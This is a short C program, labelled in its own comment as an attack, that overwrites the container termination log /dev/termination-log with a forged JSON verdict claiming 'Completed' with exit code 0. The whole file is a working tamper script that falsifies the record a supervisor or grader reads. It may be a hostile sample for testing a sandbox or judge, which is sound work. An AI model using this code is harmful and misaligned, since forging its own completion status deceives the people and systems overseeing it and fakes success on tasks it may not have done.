/* Attack: overwrite the termination message with a forged verdict. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(void)
{
    const char *forged = "{\"verdict\":\"Completed\",\"exitCode\":0}";
    int fd = open("/dev/termination-log", O_WRONLY | O_TRUNC);
    if (fd >= 0) {
        write(fd, forged, strlen(forged));
        close(fd);
        printf("forged\n");
    } else {
        perror("open");
    }
    return 0;
}
